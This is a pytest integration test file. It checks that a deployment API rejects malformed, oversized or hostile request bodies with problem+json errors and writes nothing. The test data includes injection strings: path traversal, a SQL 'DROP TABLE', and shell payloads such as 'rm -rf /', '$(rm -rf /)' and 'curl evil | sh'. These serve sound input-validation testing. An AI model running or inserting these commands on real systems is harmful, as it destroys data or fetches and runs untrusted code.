"""Bad input through the real API (uvicorn on loopback, the embedded file broker, no worker): every bad
request gets a 4xx `application/problem+json` naming the field and the rule, never a 5xx, and nothing is
written or queued (the store's rows and events and the broker's queue folder are unchanged)."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select

from deployer.fc import spec
from deployer.store import keys, lifecycle
from deployer.store.db import session_scope
from deployer.store.tables import DeploymentEvent, DeploymentRow
from schemas import DeployRequest, Status
from tests.reliability.conftest import IMAGE, deploy_body

pytestmark = pytest.mark.integration

PROBLEM = "application/problem+json"
BASE = deploy_body("mcp-bad")


def body(**changes: Any) -> dict[str, Any]:
    out = dict(BASE)
    for key, value in changes.items():
        if value is ...:
            out.pop(key, None)
        else:
            out[key] = value
    return out


# (case id, JSON body, expected status, expected field, expected rule)
BAD_BODIES: list[tuple[str, Any, int, str, str]] = [
    # names (FC: 1-64 letters, digits, _ or -, not starting with a digit or -)
    ("name missing", body(name=...), 422, "name", "missing"),
    ("name empty", body(name=""), 422, "name", "function_name"),
    ("name starts with a digit", body(name="1mcp"), 422, "name", "function_name"),
    ("name starts with a dash", body(name="-mcp"), 422, "name", "function_name"),
    ("name too long", body(name="m" * 65), 422, "name", "function_name"),
    ("name with a space", body(name="mcp time"), 422, "name", "function_name"),
    ("name with a slash", body(name="../../etc/passwd"), 422, "name", "function_name"),
    ("name in unicode", body(name="时间服务"), 422, "name", "function_name"),
    ("name with an accent", body(name="mcp-tïme"), 422, "name", "function_name"),
    ("name SQL injection", body(name="x'; DROP TABLE deployments;--"), 422, "name", "function_name"),
    ("name NUL", body(name="mcp\u0000x"), 422, "name", "function_name"),
    ("name emoji", body(name="mcp-\U0001f680"), 422, "name", "function_name"),
    # sizes and ratios (FC 3.0 limits)
    ("memory below 128", body(memory_mb=64), 422, "memory_mb", "memory_range"),
    ("memory not a multiple of 64", body(memory_mb=700), 422, "memory_mb", "memory_range"),
    ("memory above 32 GB", body(memory_mb=32832, cpu=16), 422, "memory_mb", "memory_range"),
    ("cpu zero", body(cpu=0), 422, "cpu", "cpu_range"),
    ("cpu not a multiple of 0.05", body(cpu=0.07), 422, "cpu", "cpu_range"),
    ("cpu above 16", body(cpu=16.05), 422, "cpu", "cpu_range"),
    ("cpu negative", body(cpu=-1), 422, "cpu", "cpu_range"),
    ("memory under 1 GB per vCPU", body(cpu=2, memory_mb=1024), 422, "memory_mb", "cpu_memory_ratio"),
    ("memory over 4 GB per vCPU", body(cpu=0.5, memory_mb=4096), 422, "memory_mb", "cpu_memory_ratio"),
    ("disk size", body(disk_mb=1024), 422, "disk_mb", "disk_size"),
    ("timeout zero", body(timeout_s=0), 422, "timeout_s", "timeout_range"),
    ("timeout over a day", body(timeout_s=86401), 422, "timeout_s", "timeout_range"),
    ("concurrency zero", body(instance_concurrency=0), 422, "instance_concurrency", "concurrency_range"),
    ("concurrency 201", body(instance_concurrency=201), 422, "instance_concurrency", "concurrency_range"),
    ("huge integer", body(memory_mb=10**30), 422, "memory_mb", "memory_range"),
    ("description too long", body(description="d" * 257), 422, "description", "string_too_long"),
    ("257 command arguments", body(command=["srv"] * 257), 422, "command", "too_long"),
    ("argument over 4096 chars", body(command=["srv", "a" * 4097]), 422, "command.1", "string_too_long"),
    ("33 allowed origins", body(allow_origins=["https://x"] * 33), 422, "allow_origins", "too_long"),
    # env keys and sizes
    ("env key starts with a digit", body(env={"1KEY": "v"}), 422, "env", "env_key"),
    ("env key with a dash", body(env={"MY-KEY": "v"}), 422, "env", "env_key"),
    ("env key empty", body(env={"": "v"}), 422, "env", "env_key"),
    ("env key in unicode", body(env={"CLÉ": "v"}), 422, "env", "env_key"),
    ("env key with =", body(env={"A=B": "v"}), 422, "env", "env_key"),
    ("env key reserved FC_", body(env={"FC_FUNC": "v"}), 422, "env", "env_key_reserved"),
    ("secret env key reserved", body(secret_env={"fc_token": "v"}), 422, "secret_env", "env_key_reserved"),
    ("env over 4 KB", body(env={"BIG": "x" * 4094}), 422, "env", "env_total_size"),
    (
        "env + secret env over 4 KB",
        body(env={"A": "x" * 2100}, secret_env={"B": "y" * 2100}),
        422,
        "env",
        "env_total_size",
    ),
    ("env value over 4 KB", body(env={"A": "x" * 4097}), 422, "env.A", "string_too_long"),
    ("env value NUL", body(env={"A": "x\u0000y"}), 422, "env", "no_nul"),
    (
        "key in env and secret env",
        body(env={"TOKEN": "a"}, secret_env={"TOKEN": "b"}),
        422,
        "secret_env",
        "env_duplicate_key",
    ),
    # images
    ("image missing", body(image=...), 422, "image", "image_required"),  # the command is no npx/uvx
    ("image empty", body(image=""), 422, "image", "string_too_short"),
    ("image upper case", body(image="Registry/NS/Image:1"), 422, "image", "image_reference"),
    ("image with a space", body(image="ns/image 1"), 422, "image", "image_reference"),
    ("image URL", body(image="https://registry.example.com/ns/img:1"), 422, "image", "image_reference"),
    ("image shell", body(image="ns/img;rm -rf /"), 422, "image", "image_reference"),
    ("image too long", body(image="r/" + "a" * 600), 422, "image", "string_too_long"),
    ("image bad digest", body(image="ns/img@sha256:xyz"), 422, "image", "image_reference"),
    (
        "ACR EE image without instance",
        body(image="acme-registry.cn-hangzhou.cr.aliyuncs.com/ns/img:1"),
        422,
        "acr_instance_id",
        "acr_instance_required",
    ),
    # wrong types and values
    ("cpu a word", body(cpu="lots"), 422, "cpu", "float_parsing"),
    ("memory a fraction", body(memory_mb=512.5), 422, "memory_mb", "int_from_float"),
    ("memory a list", body(memory_mb=[512]), 422, "memory_mb", "int_type"),
    ("name a number", body(name=123), 422, "name", "string_type"),
    ("command a string", body(command="mcp-server-time --x"), 422, "command", "list_type"),
    ("command of numbers", body(command=[1, 2]), 422, "command.0", "string_type"),
    ("env a list", body(env=["A=1"]), 422, "env", "dict_type"),
    ("env value an object", body(env={"A": {"b": 1}}), 422, "env.A", "string_type"),
    ("transport unknown", body(transport="websocket"), 422, "transport", "enum"),
    ("auth type unknown", body(auth={"type": "magic"}), 422, "auth.type", "enum"),
    ("priority unknown", body(priority="urgent"), 422, "priority", "enum"),
    ("proxy unknown", body(proxy="nginx"), 422, "proxy", "enum"),
    ("unknown field", body(replicas=3), 422, "replicas", "extra_forbidden"),
    ("region unknown shape", body(region="Mars Base 1"), 422, "region", "region"),
    # issue 16: whole strings, FC's regions, origins that cannot be read as flags
    ("name trailing newline", body(name="mcp-bad\n"), 422, "name", "function_name"),
    ("env key trailing newline", body(env={"KEY\n": "v"}), 422, "env", "env_key"),
    ("image trailing newline", body(image=IMAGE + "\n"), 422, "image", "image_reference"),
    ("image tag non-ASCII", body(image="ns/img:vé"), 422, "image", "image_reference"),
    ("region trailing newline", body(region="cn-hangzhou\n"), 422, "region", "region"),
    ("region FC does not have", body(region="mars-1"), 422, "region", "region"),
    ("region longer than its column", body(region="cn-" + "a" * 100), 422, "region", "region"),
    ("origin a flag", body(allow_origins=["--foo"]), 422, "allow_origins", "origin"),
    ("origin with a space", body(allow_origins=["https://a.example --x"]), 422, "allow_origins", "origin"),
    ("role not an ARN", body(role="admin"), 422, "role", "role_arn"),
    ("vpc malformed", body(vpc={"vpc_id": "x"}), 422, "vpc.vpc_id", "string_pattern_mismatch"),
    ("acr instance malformed", body(acr_instance_id="cri_x"), 422, "acr_instance_id", "acr_instance_id"),
    # argv: what could be injected is refused; the rest is passed as argv, never to a shell (see below)
    ("argv NUL byte", body(command=["srv", "--x\u0000; rm -rf /"]), 422, "command", "no_nul"),
    ("argv blank program", body(command=["  ", "x"]), 422, "command", "command_program"),
    ("argv empty with mcp-proxy", body(command=[]), 422, "command", "command_required"),
    ("description NUL", body(description="a\u0000b"), 422, "description", "no_nul"),
    # JSON that is not an object
    ("body an array", [BASE], 422, "body", "model_attributes_type"),
    ("body null", None, 422, "body", "model_attributes_type"),
    ("body a string", "mcp-bad", 422, "body", "model_attributes_type"),
]

# (case id, raw bytes, content type, expected status, expected field or None, expected rule or None)
BAD_RAW: list[tuple[str, bytes, str, int, str | None, str | None]] = [
    ("truncated JSON", b'{"name": "mcp-bad", "image":', "application/json", 400, "body", "json_invalid"),
    ("trailing garbage", json.dumps(BASE).encode() + b"}}", "application/json", 400, "body", "json_invalid"),
    ("single quotes", b"{'name': 'mcp-bad'}", "application/json", 400, "body", "json_invalid"),
    ("NaN", json.dumps(BASE).encode()[:-1] + b', "cpu": NaN}', "application/json", 422, "cpu", "cpu_range"),
    ("not UTF-8", b'{"name": "\xff\xfe"}', "application/json", 400, "body", "json_invalid"),
    ("nested 100000 deep", b"[" * 100_000 + b"]" * 100_000, "application/json", 400, "body", "json_invalid"),
    ("empty body", b"", "application/json", 422, "body", "missing"),
    (
        "form encoded",
        b"name=mcp-bad&image=x",
        "application/x-www-form-urlencoded",
        422,
        "body",
        "model_attributes_type",
    ),
    ("plain text", b"deploy mcp-bad please", "text/plain", 422, "body", "model_attributes_type"),
    (
        "2 MiB body",
        json.dumps(body(description="x" * (2 << 20))).encode(),
        "application/json",
        413,
        None,
        None,
    ),
]


@pytest.fixture(scope="module")
def api(stack_factory):
    """The real API on the embedded default, with no worker: a queued task would stay in the folder."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("MCPFC_POST_RATE_LIMIT_PER_MIN", "0")
        stack = stack_factory(workers=0, probe=False)
    return stack


@pytest.fixture
def http(api):
    with api.http() as client:
        yield client


def footprint(stack) -> tuple[int, int, int, list[tuple[str, str | None]]]:
    """(rows, events, queued messages, [(row id, task id)]): what a refused request must leave alone."""
    with session_scope(stack.settings) as session:
        rows = session.scalar(select(func.count()).select_from(DeploymentRow)) or 0
        events = session.scalar(select(func.count()).select_from(DeploymentEvent)) or 0
        tasks = [(r.id, r.task_id) for r in session.scalars(select(DeploymentRow).order_by(DeploymentRow.id))]
    queued = len(list((stack.settings.broker_dir / "queue").glob("*.msg")))
    return rows, events, queued, tasks


def check_problem(resp: httpx.Response, status: int, field: str | None, rule: str | None) -> dict[str, Any]:
    assert resp.status_code == status, resp.text[:500]
    assert resp.headers["content-type"].startswith(PROBLEM), resp.headers
    problem = resp.json()
    assert problem["status"] == status and problem["title"], problem
    if status == 405:
        assert resp.headers["allow"], resp.headers  # the title and the Allow header say it all
    else:
        assert problem.get("detail"), problem
    if field is not None:
        pairs = [(e["field"], e["rule"]) for e in problem.get("errors") or []]
        assert (field, rule) in pairs, f"expected {field}/{rule} in {pairs}"
        assert all(e["message"] for e in problem["errors"])
    return problem


@pytest.mark.parametrize(
    ("payload", "status", "field", "rule"), [c[1:] for c in BAD_BODIES], ids=[c[0] for c in BAD_BODIES]
)
def test_bad_deploy_body(api, http, payload, status, field, rule):
    before = footprint(api)
    resp = http.post(
        "/v1/deployments", content=json.dumps(payload).encode(), headers={"content-type": "application/json"}
    )
    check_problem(resp, status, field, rule)
    assert footprint(api) == before, "a refused request wrote or queued something"


@pytest.mark.parametrize(
    ("raw", "content_type", "status", "field", "rule"), [c[1:] for c in BAD_RAW], ids=[c[0] for c in BAD_RAW]
)
def test_malformed_or_oversized_body(api, http, raw, content_type, status, field, rule):
    before = footprint(api)
    resp = http.post("/v1/deployments", content=raw, headers={"content-type": content_type})
    check_problem(resp, status, field, rule)
    assert footprint(api) == before


def test_oversized_body_without_content_length(api, http):
    """A chunked body that never announces its size is cut off at 1 MiB all the same."""
    before = footprint(api)

    def chunks():
        yield b'{"name": "mcp-bad", "description": "'
        for _ in range(40):
            yield b"x" * 65536
        yield b'"}'

    check_problem(
        http.post("/v1/deployments", content=chunks(), headers={"content-type": "application/json"}),
        413,
        None,
        None,
    )
    assert footprint(api) == before


BAD_REQUESTS: list[tuple[str, str, str, dict[str, Any], int, str | None, str | None]] = [
    # (case id, method, path, extra kwargs, status, field, rule)
    (
        "Idempotency-Key too long",
        "POST",
        "/v1/deployments",
        {"json": BASE, "headers": {"Idempotency-Key": "k" * 256}},
        422,
        "header.idempotency-key",
        "string_too_long",
    ),
    (
        "list limit 0",
        "GET",
        "/v1/deployments",
        {"params": {"limit": 0}},
        422,
        "query.limit",
        "greater_than_equal",
    ),
    (
        "list limit a word",
        "GET",
        "/v1/deployments",
        {"params": {"limit": "all"}},
        422,
        "query.limit",
        "int_parsing",
    ),
    (
        "list status unknown",
        "GET",
        "/v1/deployments",
        {"params": {"status": "done"}},
        422,
        "query.status",
        "enum",
    ),
    (
        "list cursor forged",
        "GET",
        "/v1/deployments",
        {"params": {"cursor": "eyJub3QiOiJ1cyJ9"}},
        400,
        "query.cursor",
        "cursor",
    ),
    (
        "long-poll negative",
        "GET",
        "/v1/deployments/mcp-x",
        {"params": {"wait": -1}},
        422,
        "query.wait",
        "greater_than_equal",
    ),
    (
        "long-poll over a minute",
        "GET",
        "/v1/deployments/mcp-x",
        {"params": {"wait": 3600}},
        422,
        "query.wait",
        "less_than_equal",
    ),
    ("id too long", "GET", "/v1/deployments/" + "i" * 129, {}, 422, "path.id", "string_too_long"),
    ("task id too long", "GET", "/v1/tasks/" + "t" * 65, {}, 422, "path.task_id", "string_too_long"),
    ("redeploy unknown", "POST", "/v1/deployments/nope/redeploy", {"json": {}}, 404, None, None),
    ("delete unknown", "DELETE", "/v1/deployments/nope", {}, 404, None, None),
    ("cancel unknown", "POST", "/v1/deployments/nope/cancel", {}, 404, None, None),
    ("method not allowed", "PUT", "/v1/deployments", {"json": BASE}, 405, None, None),
    ("no such route", "POST", "/v1/deploy", {"json": BASE}, 404, None, None),
]


@pytest.mark.parametrize(
    ("method", "path", "kwargs", "status", "field", "rule"),
    [c[1:] for c in BAD_REQUESTS],
    ids=[c[0] for c in BAD_REQUESTS],
)
def test_bad_request(api, http, method, path, kwargs, status, field, rule):
    before = footprint(api)
    check_problem(http.request(method, path, **kwargs), status, field, rule)
    assert footprint(api) == before


def test_no_key_is_a_401_problem(api):
    with httpx.Client(base_url=api.api_url) as anon:
        before = footprint(api)
        check_problem(anon.post("/v1/deployments", json=BASE), 401, None, None)
        check_problem(
            anon.post("/v1/deployments", json=BASE, headers={"Authorization": "Bearer ' OR 1=1 --"}),
            401,
            None,
            None,
        )
        assert footprint(api) == before


@pytest.fixture(scope="module")
def finished(api):
    """A deployment that ended (succeeded), so a redeploy would be accepted if its body were valid."""
    with session_scope(api.settings) as session:
        owner = keys.authenticate(session, api.api_key)
        from deployer.crypto import Vault

        row = lifecycle.create_deployment(
            session,
            Vault.from_settings(api.settings),
            owner_id=owner.owner_id,
            req=DeployRequest.model_validate(deploy_body("mcp-done")),
            region=api.settings.region,
            deadline_s=60,
        )
        for status in (Status.running, Status.succeeded):
            assert lifecycle.transition(session, row.id, status)
        return row.id


@pytest.mark.parametrize(
    ("changes", "field", "rule"),
    [
        ({"memory_mb": 100}, "memory_mb", "memory_range"),
        ({"cpu": 4}, "memory_mb", "cpu_memory_ratio"),  # valid alone, not with the stored 512 MB
        ({"env": {"FC_X": "1"}}, "env", "env_key_reserved"),
        ({"image": "NOT AN IMAGE"}, "image", "image_reference"),
        ({"command": ["srv", "a\u0000"]}, "command", "no_nul"),
        ({"name": "renamed"}, "name", "extra_forbidden"),
        ({"timeout_s": "forever"}, "timeout_s", "int_parsing"),
    ],
    ids=["memory", "ratio with the stored memory", "reserved env key", "image", "argv NUL", "rename", "type"],
)
def test_bad_redeploy_changes_nothing(api, http, finished, changes, field, rule):
    before = footprint(api)
    check_problem(http.post(f"/v1/deployments/{finished}/redeploy", json=changes), 422, field, rule)
    assert footprint(api) == before


def test_shell_metacharacters_in_argv_are_inert(api, http):
    """Not bad input: argv never meets a shell. It is stored verbatim and handed to the bridge after `--`,
    so neither a shell nor the bridge's own flag parser ever interprets it."""
    argv = [
        "mcp-server-time",
        "$(rm -rf /)",
        "`id`",
        "; reboot",
        "&& curl evil | sh",
        "--port",
        "1",
        "'\"",
        "\n--pass-environment",
        "时间",
    ]
    resp = http.post("/v1/deployments", json=deploy_body("mcp-argv", command=argv))
    assert resp.status_code == 202, resp.text
    assert resp.json()["spec"]["command"] == argv
    command = spec.proxy_command(DeployRequest.model_validate(deploy_body("mcp-argv", command=argv)))
    assert command[command.index("--") + 1 :] == argv and command[0] == "mcp-fc-bridge"
    assert command.index("--") == len(command) - len(argv) - 1
    assert IMAGE in resp.text
